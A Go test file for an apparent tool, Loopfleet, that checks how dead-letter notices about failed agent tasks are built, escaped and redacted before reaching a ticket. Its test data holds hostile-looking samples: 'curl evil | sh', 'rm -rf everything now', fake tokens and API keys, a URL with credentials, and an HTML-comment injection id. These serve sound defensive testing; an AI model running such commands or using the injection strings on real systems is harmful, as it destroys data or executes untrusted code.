package notice

import (
	"strings"
	"testing"
	"time"

	"loopfleet/pkg/deadletter"
	"loopfleet/pkg/event"
	"loopfleet/pkg/workitem"
)

func item(t *testing.T) workitem.Ref {
	t.Helper()
	r, err := workitem.Parse("octo/hello#42")
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func TestDeadBody(t *testing.T) {
	t.Parallel()
	l := deadletter.Letter{
		Event: event.Event{
			ID: "comment-mzxw6ytboi3a4qwerty23456", Kind: event.Comment, WorkItem: item(t),
			At: time.Date(2026, 11, 28, 9, 0, 1, 0, time.UTC), Body: "SECRET words of mallory", Title: "Greet people", Actor: event.Actor{Login: "mallory"},
		},
		Reason: "attempts-spent", Attempts: 3, Error: "it last printed: password", Public: "start agent: no room",
	}
	want := "Loopfleet gave up on a comment of this ticket, of 2026-11-28 09:00:01 UTC.\n\n" +
		"- Reason: every attempt to hand it to the agent failed (`attempts-spent`)\n- Attempts: 3\n- Last error: `start agent: no room`\n\n" +
		"Whoever runs Loopfleet can have it tried again: `loopfleet dead-letters replay comment-mzxw6ytboi3a4qwerty23456`\n" +
		"All that is kept of it: `loopfleet dead-letters show comment-mzxw6ytboi3a4qwerty23456`"
	if got := deadBody(&l); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	l.Reason, l.Public, l.Event.Kind = deadletter.ReasonUndecodable, "", ""
	if got := deadBody(&l); strings.Contains(got, "replay") || strings.Contains(got, "Last error") || strings.Contains(got, "password") {
		t.Errorf("undecodable:\n%s", got)
	}
}

// The markers are lines of their own, whatever the texts are.
func TestText_Markers(t *testing.T) {
	t.Parallel()
	tell := telling{key: "comment-a g1", body: "body without a newline"}
	lines := strings.Split(tell.text(), "\n")
	for _, want := range []string{event.Marker, "<!-- loopfleet notice comment-a g1 -->"} {
		n := 0
		for _, l := range lines {
			if l == want {
				n++
			}
		}
		if n != 1 {
			t.Errorf("%d lines %q in %q", n, want, tell.text())
		}
	}
}

// Nothing of the commenter's, the agent's or the machine's reaches the ticket.
func TestPublicError(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct{ public, want string }{
		"nothing":            {"", ""},
		"plain":              {"connection refused", "connection refused"},
		"first line only":    {"one\ntwo\nthree", "one"},
		"first line, CR":     {"one\rtwo", "one"},
		"a commenter's line": {"prompt: rm -rf everything now: refused", "prompt: …: refused"},
		"the title":          {"issue Greet @everyone not found", "issue … not found"},
		"the actor":          {"mallory-of-fork may not", "… may not"},
		"a check's name":     {"check build (evil) failed", "check … failed"},
		"quoted text":        {`run "curl evil | sh" failed`, `run "…" failed`},
		"quoted name":        {`harness "claude" is not there`, `harness "claude" is not there`},
		"quoted escapes":     {`open "a\"b c" failed`, `open "…" failed`},
		"paths":              {"write /home/alice/.local/state/x.md: denied", "write x.md: denied"},
		"quoted path":        {`exec: "/opt/secret/agent": not found`, `exec: "agent": not found`},
		"URL with a user":    {"dial nats://user:pass@host:4222 failed", "dial nats://host:4222 failed"},
		"a token":            {"401 for ghp_0123456789abcdef of alice", "401 for … of alice"},
		"an API key":         {"key sk-ant-api03-abcdef refused", "key … refused"},
		"a long secret":      {"got 0123456789abcdef0123456789abcdef0123456789abcdef", "got …"},
		"an event id":        {"prompt review-comment-mzxw6ytboi3a4qwerty234 stands", "prompt review-comment-mzxw6ytboi3a4qwerty234 stands"},
		"control characters": {"bad \x1b[31mred\u202e \u200bname", "bad [31mred name"},
		"invalid UTF-8":      {"bad \xff name", "bad ? name"},
		"long":               {strings.Repeat("long words ", 50), strings.Repeat("long words ", 18) + "l…"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			l := deadletter.Letter{Public: tt.public, Event: event.Event{
				Body: "hello\r\n  rm -rf everything now  \nfor", Title: "Greet @everyone", Actor: event.Actor{Login: "mallory-of-fork"}, Checks: []string{"build (evil)"},
			}}
			if got := publicError(&l); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

// Within a code span a forge mentions nobody and renders nothing.
func TestCode(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"@octo/team `x` <!-- loopfleet -->": "`@octo/team 'x' <!-- loopfleet -->`",
		"two\nlines":                        "`two lines`",
		"``":                                "`''`",
	} {
		if got := code(in); got != want {
			t.Errorf("code(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestDecode_PassesOverWhatIsNotOurs(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct{ subject, data string }{
		"no JSON":         {item(t).DeadSubject(), "{"},
		"no event":        {item(t).DeadSubject(), "{}"},
		"a hostile id":    {item(t).DeadSubject(), `{"event":{"id":"x -->\n@all","work_item":"octo/hello#1"}}`},
		"an unknown note": {Prefix + item(t).Key(), `{"id":"a","kind":"party","work_item":"octo/hello#1"}`},
		"a note of none":  {Prefix + item(t).Key(), `{"id":"a","kind":"paused"}`},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got, err := decode(tt.subject, []byte(tt.data)); err == nil {
				t.Errorf("decoded to %+v", got)
			}
		})
	}
}
